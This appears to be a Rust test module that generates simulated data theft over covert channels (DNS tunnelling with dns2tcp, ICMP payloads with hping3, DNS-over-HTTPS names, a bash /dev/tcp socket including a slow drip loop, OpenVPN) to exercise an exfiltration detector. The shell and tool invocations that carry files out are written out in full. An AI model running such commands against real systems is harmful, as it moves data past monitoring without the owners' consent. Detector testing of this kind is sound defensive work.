//! Thefts through channels that training has not seen: names, echo requests, a shell's own sockets.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use detector_tests::{poll_until, wait_for_tcp_listener, wait_for_udp_listener};

use crate::random::Random;
use crate::scene::{DOH_PORT, Outcome, SINK_PORT, Scene, Target, ensure_arrived, resolver};
use crate::sites::THIEF_NAME_SERVER;
use crate::tools::tunnel;

const START: Duration = Duration::from_secs(15);
const RAW_PORTS: [u16; 3] = [8883, 3389, 2049];
const DNS2TCP_PORT: u16 = 8888;
const DRIP_SECS: f64 = 45.0;

pub(crate) fn dns2tcp(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
    let zone = &scene.thief_zone;
    let configuration = format!(
        "listen = {THIEF_NAME_SERVER}\nport = 53\ndomain = {zone}\nresources = up:127.0.0.1:{SINK_PORT}\n"
    );
    let configuration = scene.document("dns2tcpd.conf", configuration.as_bytes())?;
    let server = scene.internet().spawn("dns2tcpd", ["-F", "-d", "1", "-f", &configuration])?;
    wait_for_udp_listener(scene.internet(), 53, START)?;
    let kind = *random.pick(&["TXT", "KEY"]);
    let port = DNS2TCP_PORT.to_string();
    let client = scene
        .client()
        .spawn("dns2tcpc", ["-d", "1", "-r", "up", "-z", zone, "-l", &port, "-T", kind, through])?;
    wait_for_tcp_listener(scene.client(), DNS2TCP_PORT, START)?;
    let bytes = random.size(5_000, 60_000);
    let body = format!("@{}", scene.document("stolen", &random.document(bytes))?);
    let url = format!("http://127.0.0.1:{DNS2TCP_PORT}/up/tunnel");
    scene
        .run(
            "curl",
            &["--silent", "--show-error", "--output", "/dev/null", "--data-binary", &body, &url],
        )
        .with_context(|| format!("through {through}: {} {}", client.output(), server.output()))?;
    ensure_arrived(bytes, scene.sunk_bytes("/up/tunnel")?)?;
    let target =
        Target { host: through.to_owned(), address: through.parse().context("no address")? };
    let culprit = scene.culprit(&target, "udp", Some(53))?;
    Ok(Outcome::stolen(
        culprit,
        bytes,
        format!("{bytes} bytes in {kind} for {zone} through {through}"),
    ))
}

/// hping3 fills echo requests from a file; what was answered has arrived.
pub(crate) fn hping(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let (chunk, count) = (random.between(20, 400), random.between(8, 120));
    let file = scene.document("stolen", &random.document((chunk * count) as usize))?;
    let [chunk_text, count_text] = [chunk.to_string(), count.to_string()];
    let pause = format!("u{}", random.between(20_000, 90_000));
    let address = target.address.to_string();
    let arguments = [
        "--icmp",
        "--quiet",
        "-c",
        &count_text,
        "-d",
        &chunk_text,
        "-E",
        &file,
        "-i",
        &pause,
        &address,
    ];
    let output = scene.run_with_status("hping3", &arguments, &[0, 1])?;
    let answered = output
        .lines()
        .find_map(|line| {
            line.split_once(" packets transmitted, ")?.1.split(' ').next()?.parse::<u64>().ok()
        })
        .with_context(|| format!("hping3 does not say what was answered: {output}"))?;
    ensure!(answered * 20 >= count * 19, "{answered} of {count} requests were answered");
    let culprit = scene.culprit(&target, "icmp", None)?;
    let notes = format!("{answered} payloads of {chunk} bytes to {}", target.host);
    Ok(Outcome::stolen(culprit, (answered * chunk) as usize, notes))
}

/// A shell alone: its own way to open a connection.
pub(crate) fn shell(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let bytes = random.size(30_000, 15_000_000);
    by_shell(scene, random, bytes, "cat \"$3\" > /dev/tcp/$1/$2", &[])
}

/// The same, drop by drop.
pub(crate) fn shell_drip(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let pause_secs = random.uniform(0.8, 4.0);
    let drops = (DRIP_SECS / pause_secs) as usize;
    let drop = random.between(3, 600) as usize;
    let script = "exec 3> /dev/tcp/$1/$2; i=0; while [ $i -lt $5 ]; do dd if=\"$3\" bs=$4 skip=$i count=1 status=none >&3; sleep $6; i=$((i+1)); done";
    let more = [drop.to_string(), drops.to_string(), format!("{pause_secs:.2}")];
    by_shell(scene, random, drop * drops, script, &more)
}

fn by_shell(
    scene: &Scene<'_>,
    random: &mut Random,
    bytes: usize,
    script: &str,
    more: &[String],
) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let port = *random.pick(&RAW_PORTS);
    let got = scene.inbox("got");
    let receive = format!("ncat --recv-only -l {port} > {}", got.display());
    let _receiver = scene.internet().spawn("sh", ["-c", &receive])?;
    wait_for_tcp_listener(scene.internet(), port, START)?;
    let file = scene.document("stolen", &random.document(bytes))?;
    let address = target.address.to_string();
    let port_text = port.to_string();
    let more: Vec<&str> = more.iter().map(String::as_str).collect();
    scene
        .run("bash", &[&["-c", script, "bash", &address, &port_text, &file], &more[..]].concat())?;
    let arrived = || fs::metadata(&got).map_or(0, |file| file.len() as usize);
    poll_until(START, || (arrived() >= bytes).then_some(())).ok();
    ensure_arrived(bytes, arrived())?;
    let culprit = scene.culprit(&target, "tcp", Some(port))?;
    Ok(Outcome::stolen(
        culprit,
        bytes,
        format!("{bytes} bytes to {address}:{port}, {}", more.join(" ")),
    ))
}

/// kdig asks a resolver over HTTPS, a connection for each name.
pub(crate) fn kdig(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.named_target(random)?;
    let log = scene.scratch.join("names.log").display().to_string();
    let serve = ["serve".to_owned(), DOH_PORT.to_string(), log.clone()];
    let _server = scene.start_script(scene.internet(), "doh.py", &serve)?;
    wait_for_tcp_listener(scene.internet(), DOH_PORT, START)?;
    let document = random.document(random.clone().size(1_500, 6_000));
    let server = format!("@{}", target.address);
    for (number, bytes) in document.chunks(90).enumerate() {
        let digits: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
        let labels: Vec<&str> = digits
            .as_bytes()
            .chunks(60)
            .filter_map(|label| std::str::from_utf8(label).ok())
            .collect();
        let name = format!("{}.{number}.{}", labels.join("."), scene.thief_zone);
        scene.run("kdig", &["+https", "+short", &server, &name, "TXT"])?;
    }
    let names = fs::read_to_string(&log).context("nobody asked the resolver")?;
    ensure_arrived(document.len().div_ceil(90), names.lines().count())?;
    let culprit = scene.culprit(&target, "tcp", Some(443))?;
    Ok(Outcome::stolen(
        culprit,
        document.len(),
        format!("{} bytes to {}", document.len(), target.host),
    ))
}

pub(crate) fn openvpn(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let tunnel = tunnel::openvpn(scene, random)?;
    let bytes = random.size(60_000, 9_000_000);
    tunnel.upload(scene, random, bytes)?;
    Ok(Outcome::stolen(
        tunnel.culprit(scene)?,
        bytes,
        format!("{bytes} bytes through {}", tunnel.host()),
    ))
}
